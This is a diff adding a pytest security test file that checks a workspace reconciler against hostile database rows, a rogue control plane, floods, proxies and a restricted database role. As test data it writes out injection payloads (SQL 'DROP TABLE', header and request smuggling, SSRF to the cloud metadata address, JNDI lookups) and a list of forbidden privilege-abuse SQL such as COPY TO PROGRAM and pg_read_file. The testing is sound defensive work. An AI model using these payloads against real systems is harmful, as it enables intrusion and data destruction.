@@ -1,0 +1,236 @@
+"""What a row, a control plane, a platform or a role that has fallen into the wrong hands can make the function do.
+
+docs/safety.md says it in words. Some of these tests show what is *not* prevented: the page must not promise more.
+"""
+
+import contextlib
+import os
+import threading
+from collections.abc import Iterator
+from typing import Any
+
+import pg8000.exceptions
+import pytest
+
+from handler.errors import RegistryError
+from sandbox.control_plane import state_answer
+from sandbox.http_server import Answer, HttpStandIn, Reply, Request
+from sandbox.postgres import RECONCILER_ROLE
+from tests.support.events import APPLY
+from tests.support.stage import Stage
+
+ALIVE_S, SILENT_S = 5.0, 300.0
+OUR_HEADERS = {
+    *("host", "content-length", "accept-encoding", "user-agent", "accept", "content-type", "connection"),
+    *("authorization", "x-molecule-admin-token"),
+}
+
+# --- a row ---
+
+RECORDED = {
+    "another parameter": "i-0a&state=stopped&admin=1",
+    "another query": "i-0a?instance_id=i-0b#top",
+    "another path": "../../../admin/terminate/",
+    "another address": "http://169.254.169.254/latest/meta-data/",
+    "a header": "i-0a\r\nX-Molecule-Admin-Token: stolen",
+    "a request": "i-0a HTTP/1.1\r\nHost: elsewhere\r\n\r\nDELETE /cp/workspaces HTTP/1.1",
+    "a line in the log": 'i-0a\n{"level":"ERROR","message":"breaker open"}',
+    "SQL": "i-0a'; DROP TABLE workspaces; --",
+    "a format": "%s%n{0.__class__}${jndi:ldap://elsewhere}",
+    "5 kB": "i-" + "0" * 5000,
+    "no ASCII": "i-\u202e\u2028\U0001f480",
+}
+
+
+def test_whatever_a_row_records_is_data_in_every_request_statement_and_log_line(stage: Stage) -> None:
+    stage.add_all(len(RECORDED) + 1, "running")
+    workspaces = stage.fleet.add_all(RECORDED.values())
+    for workspace in workspaces:
+        stage.control_plane.script.reply(state_answer("stopped"), workspace_id=workspace)
+    outcome = stage.cycle(**stage.settings("control_plane"))
+    recorded = dict(zip(workspaces, RECORDED.values(), strict=True))
+    outcome.assert_only_flipped(dict.fromkeys(workspaces, "stopped"))
+    for question in stage.control_plane.requests:
+        assert question.instance_id == recorded.get(question.workspace_id, question.instance_id)
+    assert {call.workspace_id: call.expected_instance_id for call in outcome.calls} == recorded
+    for headers in [one.headers for one in stage.control_plane.requests] + [one.headers for one in outcome.calls]:
+        assert headers.keys() <= OUR_HEADERS
+    told = {line["workspace_id"]: line["instance_id"] for line in outcome.lines("workspace flipped")}
+    assert told == {one: text[:64].encode("ascii", "backslashreplace").decode() for one, text in recorded.items()}
+    assert outcome.lines("breaker open") == []
+
+
+def test_the_same_rows_are_never_sent_to_ec2_and_stay(stage: Stage) -> None:
+    stage.add("running")
+    workspaces = stage.fleet.add_all(RECORDED.values())
+    outcome = stage.cycle()
+    outcome.assert_only_flipped({})
+    assert outcome.causes == dict.fromkeys(workspaces, "malformed_instance_id")
+
+
+def test_a_workspace_whose_id_is_no_uuid_ends_the_cycle_and_gets_into_no_address(stage: Stage) -> None:
+    database = stage.meanwhile.enter_context(contextlib.closing(stage.database.connect()))
+    database.run("ALTER TABLE workspaces DROP CONSTRAINT workspaces_parent_id_fkey, ALTER id TYPE text")
+    try:
+        database.run(
+            "INSERT INTO workspaces (id, name, status, instance_id)"
+            " VALUES ('../../admin', 'one', 'online', 'i-00000000000000001')"
+        )
+        with pytest.raises(RegistryError):
+            stage.cycle(**stage.settings("control_plane"))
+    finally:
+        database.run("DELETE FROM workspaces; ALTER TABLE workspaces ALTER id TYPE uuid USING id::uuid")
+        database.run("ALTER TABLE workspaces ADD FOREIGN KEY (parent_id) REFERENCES workspaces (id)")
+    assert stage.control_plane.requests == []
+
+
+# --- a control plane ---
+
+
+def test_a_control_plane_that_calls_the_living_dead_takes_down_nobody_who_sends_heartbeats(stage: Stage) -> None:
+    stage.add_all(6, "running")
+    victims = stage.add_all(5, "running", heartbeat_age_s=ALIVE_S)
+    for victim in victims:
+        stage.control_plane.script.reply(state_answer("terminated"), workspace_id=victim)
+    outcome = stage.cycle(**stage.settings("control_plane"))
+    outcome.assert_only_flipped({})
+    assert outcome.reasons == dict.fromkeys(victims, "fresh_heartbeat")
+
+
+def test_of_the_silent_it_takes_down_up_to_half_in_ten_minutes_and_no_more(stage: Stage) -> None:
+    """What is not prevented: nobody else can tell that such an instance lives."""
+    workspaces = stage.add_all(12, "running", heartbeat_age_s=SILENT_S)
+    for victim in workspaces[:6]:
+        stage.control_plane.script.reply(state_answer("terminated"), workspace_id=victim)
+    settings = stage.settings("control_plane")
+    stage.cycle(**settings).assert_only_flipped(dict.fromkeys(workspaces[:6], "terminated"))
+    for victim in workspaces[6:]:
+        stage.control_plane.script.reply(state_answer("terminated"), workspace_id=victim)
+        outcome = stage.cycle(APPLY | {"workspace_ids": [victim]}, **settings)
+        outcome.assert_only_flipped({})
+        assert outcome.report["breaker_open"]
+
+
+# --- a platform ---
+
+
+class _Endless(HttpStandIn):
+    """A platform whose answer is a body that nobody could keep."""
+
+    def handle(self, _: Request) -> Reply:
+        return Answer(body=b"x" * 10_000_000)
+
+
+def test_a_platform_that_answers_with_a_flood_is_not_listened_to(stage: Stage) -> None:
+    stage.add("running")
+    dead = stage.add("terminated")
+    with _Endless() as flood:
+        outcome = stage.cycle(PLATFORM_BASE_URL=flood.url)
+    assert outcome.report["restarts"]["requested"] == 1
+    assert outcome.flipped == {dead}
+    assert "xxxx" not in outcome.output
+
+
+def test_a_platform_can_put_restarts_off_for_an_hour_and_no_longer(stage: Stage) -> None:
+    stage.add("running")
+    dead = stage.add("terminated")
+    stage.platform.instead.clear()
+    stage.platform.instead.reply(Answer(429, headers={"Retry-After": "99999999"}))
+    stage.cycle()
+    stage.platform.instead.clear()
+    stage.platform.instead.reply(Answer(body=b"{}"))
+    stage.fleet.age_everything(3599)
+    assert stage.cycle().calls == []
+    stage.fleet.age_everything(2)
+    assert [call.workspace_id for call in stage.cycle().calls] == [dead]
+
+
+# --- the network ---
+
+
+@pytest.fixture
+def trap() -> Iterator[HttpStandIn]:
+    """A proxy that nobody is to use."""
+
+    class Trap(HttpStandIn):
+        def __init__(self) -> None:
+            super().__init__()
+            self.visited = threading.Event()
+
+        def handle(self, _: Request) -> Reply:
+            self.visited.set()
+            return state_answer("terminated")
+
+    with Trap() as trap:
+        yield trap
+        assert not trap.visited.is_set()
+        assert trap.connections == 0
+
+
+def test_no_proxy_is_followed(stage: Stage, trap: HttpStandIn, monkeypatch: pytest.MonkeyPatch) -> None:
+    for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"):
+        monkeypatch.setitem(os.environ, name, trap.url)
+    for name in ("NO_PROXY", "no_proxy"):
+        monkeypatch.delitem(os.environ, name, raising=False)
+    stage.add("running")
+    dead = stage.add("terminated")
+    for probe in ("ec2", "control_plane"):
+        stage.fleet.update(dead, status="online")
+        outcome = stage.cycle(**stage.settings(probe), BREAKER_WINDOW_SECONDS="0")
+        assert (outcome.report["running"], outcome.flipped) == (1, {dead})
+
+
+# --- the database's role ---
+
+FORBIDDEN = {
+    "reads the platform's columns": "SELECT name, url FROM workspaces",
+    "reads the platform's events": "SELECT payload FROM structure_events",
+    "points a row at another instance": "UPDATE workspaces SET instance_id = 'i-00000000000000001'",
+    "forges a heartbeat": "UPDATE workspaces SET last_heartbeat_at = now()",
+    "changes a runtime": "UPDATE workspaces SET runtime = 'external'",
+    "adds a workspace": "INSERT INTO workspaces (name) VALUES ('one')",
+    "deletes workspaces": "DELETE FROM workspaces",
+    "empties the table": "TRUNCATE workspaces",
+    "rewrites events": "UPDATE structure_events SET payload = NULL",
+    "deletes events": "DELETE FROM structure_events",
+    "dates an event back": "INSERT INTO structure_events (event_type, created_at) VALUES ('X', '2020-01-01')",
+    "changes its own tables": "ALTER TABLE reconciler.restarts DROP COLUMN attempts",
+    "adds to its schema": "CREATE TABLE reconciler.mine ()",
+    "gives rights away": "GRANT SELECT ON reconciler.restarts TO public WITH GRANT OPTION",
+    "makes roles": "CREATE ROLE mallory",
+    "reads the server's files": "SELECT pg_read_file('postgresql.conf')",
+    "runs programs": "COPY (SELECT 1) TO PROGRAM 'true'",
+}
+
+
+@pytest.mark.parametrize("name", FORBIDDEN)
+def test_whoever_has_the_functions_database_login_cannot_do_that(stage: Stage, name: str) -> None:
+    with contextlib.closing(_as_reconciler(stage)) as connection:
+        with pytest.raises(pg8000.exceptions.DatabaseError) as error:
+            connection.run(FORBIDDEN[name])
+        code = error.value.args[0]["C"]
+    # insufficient_privilege, or a grant that has nothing to give
+    assert code in ("42501", "0LP01")
+
+
+def test_whoever_has_it_can_take_any_workspace_offline_but_a_forged_debt_of_the_living_is_not_paid(
+    stage: Stage,
+) -> None:
+    """What is not prevented, and what is: the flip needs the right, and a debt is looked at before it is paid."""
+    living = stage.add("running")
+    with contextlib.closing(_as_reconciler(stage)) as connection:
+        connection.run("UPDATE workspaces SET status = 'offline'")
+        connection.run(
+            "INSERT INTO reconciler.restarts (workspace_id, instance_id, cycle_id)"
+            " VALUES (CAST(:id AS uuid), :instance, gen_random_uuid())",
+            id=living,
+            instance=stage.instance_of(living),
+        )
+    outcome = stage.cycle()
+    assert outcome.calls == []
+    assert outcome.report["restarts"]["void"] == 1
+
+
+def _as_reconciler(stage: Stage) -> Any:
+    server = stage.database._server  # noqa: SLF001 - only it knows the password
+    return server.connect(stage.database.name, user=RECONCILER_ROLE)
